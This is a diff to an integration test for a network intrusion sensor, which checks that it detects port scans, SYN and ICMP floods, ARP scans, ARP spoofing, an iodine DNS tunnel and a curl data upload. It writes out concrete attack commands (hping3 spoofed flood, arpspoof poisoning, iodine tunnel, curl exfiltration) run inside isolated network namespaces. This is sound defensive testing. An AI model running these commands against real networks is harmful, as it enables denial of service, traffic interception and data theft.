@@ -1,16 +1,18 @@
 /**
- * Real attack tools, seen live: nmap, hping3 and ping in one network
- * namespace attack a host in another (tests/netns_pair.ts), while
- * `netmirror capture -i <veth> -q --eve -` runs in the victim's namespace
- * with the least privilege it documents, so tcpdump captures on a real
- * Ethernet interface with receive offload. Each attack must raise its alert,
- * with attacker, victim and ATT&CK technique, and no other; every packet
- * must reach the engine (tcpdump's kernel drops are zero), including a
- * 5 000-packet ping flood that arrives faster than a reader can be woken.
+ * Real attack tools, seen live: nmap, hping3, ping, arp-scan, arpspoof,
+ * iodine and curl in one network namespace attack a host in another
+ * (tests/netns_pair.ts), while `netmirror capture -i <veth> -q --eve -`
+ * runs in the victim's namespace with the least privilege it documents, so
+ * tcpdump captures on a real Ethernet interface with receive offload. Each
+ * attack must raise its alert, with attacker, victim and ATT&CK technique,
+ * and no other; every packet must reach the engine (tcpdump's kernel drops
+ * are zero), including a 5 000-packet ping flood that arrives faster than a
+ * reader can be woken.
  *
- * Needs root, `ip`, `nmap`, `hping3` and `ping` (.ci/run installs them; a
- * missing tool fails the test). Every tool runs with a packet count or a
- * bounded target list, under a time limit.
+ * Needs root, `ip`, `nmap`, `hping3`, `ping`, `arp-scan`, `arpspoof`
+ * (dsniff), `iodine`/`iodined` and `curl` (.ci/run installs them; a missing
+ * tool fails the test). Every tool runs with a packet count, a bounded
+ * target list or a time limit, and every daemon is stopped.
  */
 
 import assert from "node:assert/strict";
@@ -22,8 +24,10 @@ import {
   VICTIM,
   VICTIM_SUBNET,
 } from "./netns_pair.ts";
+import { type NsProcess, startInNs } from "./ns_process.ts";
 
 const MAIN = new URL("../main.ts", import.meta.url).pathname;
+const UPLOAD_SINK = new URL("./upload_sink.ts", import.meta.url).pathname;
 /** What `deno task compile` grants the binary, less the network (capture needs none). */
 const SENSOR_PERMISSIONS = [
   "--allow-run=tcpdump",
@@ -32,7 +36,6 @@ const SENSOR_PERMISSIONS = [
 ];
 const READY_TIMEOUT_MS = 30_000;
 const TOOL_TIMEOUT_MS = 30_000;
-const STOP_TIMEOUT_MS = 15_000;
 
 /** An alert as the EVE line gives it. */
 interface EveAlert {
@@ -51,84 +54,65 @@ interface Seen {
   icmpv4: number;
 }
 
-/** How a tool ended: its exit status and what it printed on stderr. */
-type ToolCheck = (success: boolean, stderr: string) => void;
-
-function exitsZero(success: boolean, stderr: string): void {
-  assert.ok(success, stderr);
+/** Runs `command` in `ns` to its end (bounded); returns its stderr after `check` passed on it. */
+async function run(
+  ns: string,
+  command: string[],
+  check: (success: boolean, stderr: string) => void = (success, stderr) =>
+    assert.ok(success, stderr),
+): Promise<void> {
+  const out = await new Deno.Command("ip", {
+    args: ["netns", "exec", ns, ...command],
+    stdout: "null",
+    stderr: "piped",
+    signal: AbortSignal.timeout(TOOL_TIMEOUT_MS),
+  }).output();
+  check(
+    out.success,
+    `${command.join(" ")}: ${new TextDecoder().decode(out.stderr)}`,
+  );
 }
 
-/** Runs `command` in the attacker's namespace while the sensor captures in the victim's; returns what the sensor saw. */
-async function attack(
+/** Captures in the victim's namespace while `act` runs; returns what the sensor saw. */
+async function capture(
   pair: NetnsPair,
-  command: string[],
-  checkTool: ToolCheck = exitsZero,
+  act: () => Promise<void>,
+  configFile?: string,
 ): Promise<Seen> {
-  const sensor = new Deno.Command("ip", {
-    args: [
-      "netns",
-      "exec",
-      pair.victimNs,
-      Deno.execPath(),
-      "run",
-      ...SENSOR_PERMISSIONS,
-      MAIN,
-      "capture",
-      "-i",
-      pair.victimIface,
-      "-q",
-      "--eve",
-      "-",
-    ],
-    env: { NO_COLOR: "1" },
-    stdout: "piped",
-    stderr: "piped",
-  }).spawn();
-  const stdout = new Response(sensor.stdout).text();
-  const stderrLines = sensor.stderr.pipeThrough(new TextDecoderStream())
-    .getReader();
-  let stderr = "";
+  const sensor = startInNs(pair.victimNs, [
+    Deno.execPath(),
+    "run",
+    ...SENSOR_PERMISSIONS,
+    MAIN,
+    "capture",
+    "-i",
+    pair.victimIface,
+    "-q",
+    "--eve",
+    "-",
+    ...(configFile ? ["--config", configFile] : []),
+  ]);
   try {
     // Ready once tcpdump listens (the CLI says so on stderr).
-    const deadline = Date.now() + READY_TIMEOUT_MS;
-    while (!stderr.includes("capturing on")) {
-      const left = deadline - Date.now();
-      assert.ok(left > 0, `sensor not ready: ${stderr}`);
-      const next = await Promise.race([
-        stderrLines.read(),
-        new Promise<null>((resolve) => setTimeout(() => resolve(null), left)),
-      ]);
-      assert.ok(next !== null && !next.done, `sensor not ready: ${stderr}`);
-      stderr += next.value;
-    }
-    const tool = await new Deno.Command("ip", {
-      args: ["netns", "exec", pair.attackerNs, ...command],
-      stdout: "null",
-      stderr: "piped",
-      signal: AbortSignal.timeout(TOOL_TIMEOUT_MS),
-    }).output();
-    checkTool(
-      tool.success,
-      `${command.join(" ")}: ${new TextDecoder().decode(tool.stderr)}`,
-    );
+    await sensor.waitFor("capturing on", READY_TIMEOUT_MS);
+    await act();
     // Let the last packets through tcpdump's pipe before stopping it.
     await new Promise((resolve) => setTimeout(resolve, 500));
   } finally {
-    try {
-      sensor.kill("SIGINT");
-    } catch {
-      // already exited
-    }
+    await sensor.stop("SIGINT");
   }
-  const stopTimer = setTimeout(() => sensor.kill("SIGKILL"), STOP_TIMEOUT_MS);
-  const [status, eve] = await Promise.all([sensor.status, stdout]);
-  clearTimeout(stopTimer);
-  for (let next = await stderrLines.read(); !next.done;) {
-    stderr += next.value;
-    next = await stderrLines.read();
-  }
-  assert.equal(status.code, 0, stderr);
-  return parseEve(eve, stderr);
+  const { code, stdout, stderr } = await sensor.stop();
+  assert.equal(code, 0, stderr);
+  return parseEve(stdout, stderr);
+}
+
+/** Runs `command` in the attacker's namespace during a capture. */
+function attack(
+  pair: NetnsPair,
+  command: string[],
+  check?: (success: boolean, stderr: string) => void,
+): Promise<Seen> {
+  return capture(pair, () => run(pair.attackerNs, command, check));
 }
 
 function parseEve(text: string, stderr: string): Seen {
@@ -157,11 +141,16 @@ function parseEve(text: string, stderr: string): Seen {
   };
 }
 
-/** Asserts exactly `expected` (kind, attacker, victim, technique) and no loss. */
-function assertAlerts(seen: Seen, expected: EveAlert[]): void {
-  assert.deepEqual(seen.alerts, expected);
+/** Asserts exactly one alert, `expected` (kind, attacker, victim, technique), and no loss. */
+function assertAlert(seen: Seen, expected: EveAlert): void {
+  assert.deepEqual(seen.alerts, [expected]);
   assert.equal(seen.kernelDrops, 0, "tcpdump dropped packets");
   assert.ok(seen.kernelPackets > 0);
+}
+
+/** Stops each daemon that was started, even when the step failed. */
+async function stopAll(daemons: (NsProcess | undefined)[]): Promise<void> {
+  for (const daemon of daemons) await daemon?.stop();
 }
 
 Deno.test("live attacks: real tools in network namespaces raise their alerts", async (t) => {
@@ -180,12 +169,12 @@ Deno.test("live attacks: real tools in network namespaces raise their alerts", a
         "1-200",
         VICTIM,
       ]);
-      assertAlerts(seen, [{
+      assertAlert(seen, {
         kind: "port_scan",
         attacker: ATTACKER,
         victim: VICTIM,
         technique: "T1046",
-      }]);
+      });
     });
 
     await t.step("hping3 --rand-source: a spoofed SYN flood", async () => {
@@ -206,12 +195,12 @@ Deno.test("live attacks: real tools in network namespaces raise their alerts", a
         assert.match(stderr, /2000 packets transmitted/);
       });
       // Thousands of sources: no one attacker.
-      assertAlerts(seen, [{
+      assertAlert(seen, {
         kind: "syn_flood",
         attacker: "",
         victim: VICTIM,
         technique: "T1499.001",
-      }]);
+      });
     });
 
     await t.step("ping -f: an ICMP flood, every packet seen", async () => {
@@ -224,33 +213,15 @@ Deno.test("live attacks: real tools in network namespaces raise their alerts", a
         String(pings),
         VICTIM,
       ]);
-      assertAlerts(seen, [{
+      assertAlert(seen, {
         kind: "icmp_flood",
         attacker: ATTACKER,
         victim: VICTIM,
         technique: "T1498.001",
-      }]);
+      });
       // Requests and replies, all of them: with tcpdump's default snap
       // length (262144) the ring held about 1 000 and most were dropped.
       assert.equal(seen.icmpv4, 2 * pings);
-    });
-
-    await t.step("nmap -sn: an ARP scan of the victim's subnet", async () => {
-      const seen = await attack(pair, [
-        "nmap",
-        "-sn",
-        "-n",
-        "-T5",
-        "--max-retries",
-        "0",
-        VICTIM_SUBNET.replace("/24", "/25"),
-      ]);
-      assertAlerts(seen, [{
-        kind: "arp_scan",
-        attacker: ATTACKER,
-        victim: "",
-        technique: "T1018",
-      }]);
     });
 
     await t.step("nmap -sn -PE: an ICMP sweep of a routed subnet", async () => {
@@ -269,13 +240,197 @@ Deno.test("live attacks: real tools in network namespaces raise their alerts", a
         "50ms",
         EMPTY_SUBNET.replace("/24", "/25"),
       ]);
-      assertAlerts(seen, [{
+      assertAlert(seen, {
         kind: "icmp_sweep",
         attacker: ATTACKER,
         victim: "",
         technique: "T1018",
-      }]);
+      });
     });
+
+    const arpScan = {
+      kind: "arp_scan",
+      attacker: ATTACKER,
+      victim: "",
+      technique: "T1018",
+    };
+    await t.step("nmap -sn: an ARP scan of the victim's subnet", async () => {
+      const seen = await attack(pair, [
+        "nmap",
+        "-sn",
+        "-n",
+        "-T5",
+        "--max-retries",
+        "0",
+        VICTIM_SUBNET.replace("/24", "/25"),
+      ]);
+      assertAlert(seen, arpScan);
+    });
+
+    await t.step("arp-scan: an ARP scan of the victim's subnet", async () => {
+      const seen = await attack(pair, [
+        "arp-scan",
+        "-I",
+        pair.attackerIface,
+        "--retry",
+        "1",
+        VICTIM_SUBNET,
+      ]);
+      assertAlert(seen, arpScan);
+    });
+
+    await t.step(
+      "arpspoof: the victim's gateway poisoned, then restored",
+      async () => {
+        // The victim's "gateway" 10.77.0.254 is the victim itself, second
+        // address; the attacker resolves it first, as any host would.
+        const gateway = "10.77.0.254";
+        await run(pair.victimNs, [
+          "ip",
+          "addr",
+          "add",
+          `${gateway}/24`,
+          "dev",
+          pair.victimIface,
+        ]);
+        const seen = await capture(pair, async () => {
+          await run(pair.attackerNs, ["ping", "-c", "1", "-W", "2", gateway]);
+          const arpspoof = startInNs(pair.attackerNs, [
+            "arpspoof",
+            "-i",
+            pair.attackerIface,
+            "-t",
+            VICTIM,
+            gateway,
+          ]);
+          try {
+            // Two forged replies (one every 2 s), then SIGINT: arpspoof
+            // re-ARPs the real binding five times, from its own NIC.
+            await arpspoof.waitFor("is-at", READY_TIMEOUT_MS);
+            await new Promise((resolve) => setTimeout(resolve, 2_500));
+          } finally {
+            const { stderr } = await arpspoof.stop("SIGINT");
+            assert.match(stderr, /Cleaning up and re-arping/);
+          }
+        });
+        // The poisoner only: the restoring replies, in the gateway's name
+        // from the poisoner's NIC, accuse no one.
+        assertAlert(seen, {
+          kind: "arp_spoof",
+          attacker: ATTACKER,
+          victim: VICTIM,
+          technique: "T1557.002",
+        });
+      },
+    );
+
+    await t.step(
+      "iodine: a DNS tunnel to an iodined on the victim",
+      async () => {
+        const password = "netmirror-test";
+        const domain = "t.test";
+        let server: NsProcess | undefined;
+        let client: NsProcess | undefined;
+        const seen = await capture(pair, async () => {
+          try {
+            server = startInNs(pair.victimNs, [
+              "iodined",
+              "-f",
+              "-c",
+              "-P",
+              password,
+              "10.99.0.1",
+              domain,
+            ]);
+            await server.waitFor("Listening to dns", READY_TIMEOUT_MS);
+            // -r: through DNS queries only, never raw UDP to the server.
+            client = startInNs(pair.attackerNs, [
+              "iodine",
+              "-f",
+              "-r",
+              "-P",
+              password,
+              VICTIM,
+              domain,
+            ]);
+            await client.waitFor("Connection setup complete", READY_TIMEOUT_MS);
+            // A little data through the tunnel (lazy mode answers slowly).
+            await run(pair.attackerNs, [
+              "ping",
+              "-c",
+              "2",
+              "-i",
+              "0.2",
+              "-w",
+              "3",
+              "10.99.0.1",
+            ], () => {});
+          } finally {
+            await stopAll([client, server]);
+          }
+        });
+        assertAlert(seen, {
+          kind: "dns_tunnel",
+          attacker: ATTACKER,
+          victim: VICTIM,
+          technique: "T1071.004",
+        });
+      },
+    );
+
+    await t.step(
+      "curl: an upload from the home network to an outside host",
+      async () => {
+        const dir = await Deno.makeTempDir({ prefix: "netmirror_exfil_" });
+        try {
+          // Only the attacker is home; 3 MB crosses a 2 MB threshold.
+          const config = `${dir}/netmirror.json`;
+          await Deno.writeTextFile(
+            config,
+            JSON.stringify({
+              homeNet: [`${ATTACKER}/32`],
+              detectors: { dataExfil: { exfilMinBytes: 2_000_000 } },
+            }),
+          );
+          const upload = `${dir}/upload.bin`;
+          await Deno.writeFile(upload, new Uint8Array(3_000_000));
+          const port = 8080;
+          let sink: NsProcess | undefined;
+          const seen = await capture(pair, async () => {
+            try {
+              sink = startInNs(pair.victimNs, [
+                Deno.execPath(),
+                "run",
+                `--allow-net=${VICTIM}:${port}`,
+                UPLOAD_SINK,
+                VICTIM,
+                String(port),
+              ]);
+              await sink.waitFor("listening", READY_TIMEOUT_MS);
+              await run(pair.attackerNs, [
+                "curl",
+                "-sS",
+                "--max-time",
+                "20",
+                "--data-binary",
+                `@${upload}`,
+                `http://${VICTIM}:${port}/upload`,
+              ]);
+            } finally {
+              await stopAll([sink]);
+            }
+          }, config);
+          assertAlert(seen, {
+            kind: "data_exfil",
+            attacker: ATTACKER,
+            victim: VICTIM,
+            technique: "T1048",
+          });
+        } finally {
+          await Deno.remove(dir, { recursive: true });
+        }
+      },
+    );
   } finally {
     await pair.close();
   }
